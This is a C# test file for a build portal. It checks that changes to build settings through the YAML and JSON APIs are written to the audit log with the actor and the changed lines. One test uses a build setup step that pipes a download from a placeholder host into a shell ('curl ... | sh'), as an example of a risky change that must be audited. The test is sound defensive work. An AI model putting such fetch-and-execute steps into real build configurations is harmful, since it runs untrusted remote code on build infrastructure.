using System.Net;
using System.Net.Http.Json;
using System.Text;
using Kaizen.Portal.Audit;
using Kaizen.Portal.Builds;
using Kaizen.Portal.Tests.Secrets;

namespace Kaizen.Portal.Tests.Security;

/// <summary>
/// A member who changes what builds run cannot do it unseen: each way of changing build settings leaves an audit entry
/// with who and the changed lines.
/// </summary>
public sealed class SettingsAuditTests(SecretsPortal fixture) : IClassFixture<SecretsPortal>
{
    private async Task<List<AuditEntry>> SettingsEntriesAsync()
    {
        var entries = await fixture.Portal.Api.GetFromJsonAsync<List<AuditEntry>>("/api/v1/audit?limit=1000");
        return entries!.Where(e => e.Action == AuditActions.SettingsChanged && e.Target == $"project:{fixture.Slug}/settings").ToList();
    }

    [Fact]
    public async Task A_member_who_replaces_the_settings_as_yaml_is_in_the_audit_log_with_the_changed_lines()
    {
        // Arrange
        using var member = fixture.Client(fixture.MemberToken);
        var before = (await SettingsEntriesAsync()).Count;
        var marker = "yaml-" + Guid.NewGuid().ToString("N")[..8];

        // Act
        using var put = await member.PutAsync($"/api/v1/projects/{fixture.Slug}/settings.yaml", new StringContent(
            $"setup: [\"curl -s https://example.invalid/{marker} | sh\"]\njobs:\n- name: test\n  commands: [\"true\"]\n",
            Encoding.UTF8, "text/yaml"));

        // Assert
        Assert.Equal(HttpStatusCode.OK, put.StatusCode);
        var entries = await SettingsEntriesAsync();
        Assert.Equal(before + 1, entries.Count);
        var entry = entries[0];
        Assert.Equal("member-one", entry.Actor);
        Assert.StartsWith("via the YAML API", entry.Details);
        Assert.Contains($"+ - curl -s https://example.invalid/{marker} | sh", entry.Details);
    }

    [Fact]
    public async Task A_json_change_is_audited_with_the_diff_and_the_same_settings_again_add_no_entry()
    {
        // Arrange
        using var member = fixture.Client(fixture.MemberToken);
        var job = "json-" + Guid.NewGuid().ToString("N")[..8];
        var settings = new { setup = Array.Empty<string>(), jobs = new[] { new { name = job, commands = new[] { "make" } } }, epilogue = Array.Empty<string>() };
        var before = (await SettingsEntriesAsync()).Count;

        // Act
        (await member.PutAsJsonAsync($"/api/v1/projects/{fixture.Slug}/settings", settings)).EnsureSuccessStatusCode();
        (await member.PutAsJsonAsync($"/api/v1/projects/{fixture.Slug}/settings", settings)).EnsureSuccessStatusCode();

        // Assert
        var entries = await SettingsEntriesAsync();
        Assert.Equal(before + 1, entries.Count);
        Assert.StartsWith("via the JSON API", entries[0].Details);
        Assert.Contains($"+ - name: {job}", entries[0].Details);
    }

    [Fact]
    public async Task Refused_settings_change_nothing_and_add_no_entry()
    {
        // Arrange
        using var member = fixture.Client(fixture.MemberToken);
        var before = (await SettingsEntriesAsync()).Count;

        // Act
        using var put = await member.PutAsync($"/api/v1/projects/{fixture.Slug}/settings.yaml",
            new StringContent("jobs:\n- name: test\n  commands: []\n", Encoding.UTF8, "text/yaml"));

        // Assert
        Assert.Equal(HttpStatusCode.BadRequest, put.StatusCode);
        Assert.Equal(before, (await SettingsEntriesAsync()).Count);
    }

    [Fact]
    public void A_long_diff_is_cut_to_what_the_audit_log_holds_and_says_how_much_was_left_out()
    {
        // Arrange
        var diff = Enumerable.Range(0, 500).Select(i => $"+ - echo line {i}").ToList();

        // Act
        var details = BuildSettingsChanges.Describe(SettingsSources.Yaml, diff);

        // Assert
        Assert.True(details.Length <= BuildSettingsChanges.MaxDetailsLength, $"{details.Length} characters");
        Assert.StartsWith("via the YAML API\n+ - echo line 0\n", details);
        Assert.Matches(@"… and \d+ more changed line\(s\)$", details);
    }
}
